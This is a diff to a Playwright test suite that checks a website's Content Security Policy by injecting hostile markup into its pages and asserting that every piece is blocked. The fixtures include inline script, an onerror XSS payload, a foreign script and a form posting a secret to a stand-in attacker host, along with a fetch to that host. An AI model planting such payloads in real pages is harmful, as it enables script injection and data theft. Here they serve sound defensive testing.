@@ -1,10 +1,7 @@
-import { expect, type Page, test } from '@playwright/test'
+import { expect, test } from '@playwright/test'
 import { collectPolicyViolations } from './policy-violations.ts'
 
 const EVIL = 'https://evil.example'
-
-/** The policies of these pages differ by their inline scripts and styles. */
-const ROUTES = ['/', '/contact/', '/careers/data-scientist/', '/nothing-here/']
 
 const INJECTED = `
   <script>window.owned = 'inline script'</script>
@@ -16,22 +13,15 @@ const INJECTED = `
   <base href="${EVIL}/">
   <form id="stolen" action="${EVIL}/form" method="post"><input name="secret" value="1"></form>`
 
-/** Collects the requests that reach the other site. */
-async function collectEvilRequests(page: Page): Promise<string[]> {
-  const reached: string[] = []
-  await page.route(`${EVIL}/**`, async (route) => {
-    reached.push(route.request().url())
-    await route.fulfill({ status: 200, contentType: 'text/javascript', body: "window.owned = 'foreign script'" })
-  })
-  return reached
-}
-
-const owned = (page: Page) => page.evaluate(() => Reflect.get(window, 'owned'))
-
-for (const route of ROUTES) {
+// Each page has a policy of its own, by its inline scripts and styles; that of the 404 page is sent by the server.
+for (const route of ['/careers/', '/nothing-here/']) {
   test(`${route}: injected scripts, handlers, frames and form targets are blocked`, async ({ page }) => {
     const found = await collectPolicyViolations(page)
-    const reached = await collectEvilRequests(page)
+    const reached: string[] = []
+    await page.route(`${EVIL}/**`, async (request) => {
+      reached.push(request.request().url())
+      await request.fulfill({ status: 200, contentType: 'text/javascript', body: "window.owned = 'foreign script'" })
+    })
     await page.route(`**${route}`, async (request) => {
       const answer = await request.fetch()
       const body = (await answer.text()).replace('</body>', `${INJECTED}</body>`)
@@ -39,31 +29,23 @@ for (const route of ROUTES) {
     })
     await page.goto(route)
     await expect(page.locator('#stolen')).toBeAttached()
-    const blocked = (pattern: RegExp) => expect.poll(() => found.filter((text) => pattern.test(text))).not.toEqual([])
-    await blocked(/^script-src-elem inline/)
-    await blocked(/^script-src-attr inline/)
-    await blocked(/^script-src-elem https:\/\/evil\.example\/foreign\.js/)
-    await blocked(/^frame-src https:\/\/evil\.example/)
-    await blocked(/^style-src-elem https:\/\/evil\.example/)
-    await blocked(/^base-uri https:\/\/evil\.example/)
-
+    const blocked = (directive: string, uri: string) =>
+      expect.poll(() => found.filter((text) => text.startsWith(`${directive} ${uri}`))).not.toEqual([])
+    await blocked('script-src-elem', 'inline')
+    await blocked('script-src-attr', 'inline')
+    await blocked('script-src-elem', `${EVIL}/foreign.js`)
+    for (const directive of ['frame-src', 'style-src-elem', 'base-uri']) await blocked(directive, EVIL)
     await page.locator('#stolen').evaluate((form) => form instanceof HTMLFormElement && form.submit())
-    await blocked(/^form-action https:\/\/evil\.example\/form/)
+    await blocked('form-action', `${EVIL}/form`)
 
-    const refused = await page.evaluate((evil) => {
-      const attempts = [
-        () => {
-          document.body.innerHTML = '<img src=x onerror=alert(1)>'
-        },
-        () => {
-          document.createElement('script').src = `${evil}/foreign.js`
-        },
-        () => {
-          document.createElement('script').textContent = 'window.owned = 1'
-        },
+    const attempts = await page.evaluate((evil) => {
+      const script = () => document.createElement('script')
+      return [
+        () => Object.assign(document.body, { innerHTML: '<img src=x onerror=alert(1)>' }),
+        () => Object.assign(script(), { src: `${evil}/foreign.js` }),
+        () => Object.assign(script(), { textContent: 'window.owned = 1' }),
         () => window.trustedTypes?.createPolicy('mine', {}),
-      ]
-      return attempts.map((attempt) => {
+      ].map((attempt) => {
         try {
           attempt()
           return 'passed'
@@ -72,10 +54,9 @@ for (const route of ROUTES) {
         }
       })
     }, EVIL)
-    expect(refused).toEqual(Array(4).fill('refused'))
+    expect(attempts).toEqual(Array(4).fill('refused'))
     await expect(page.evaluate((evil) => fetch(`${evil}/told`), EVIL)).rejects.toThrow('Failed to fetch')
-
-    expect(await owned(page)).toBeUndefined()
+    expect(await page.evaluate(() => Reflect.get(window, 'owned'))).toBeUndefined()
     expect(reached).toEqual([])
   })
 }
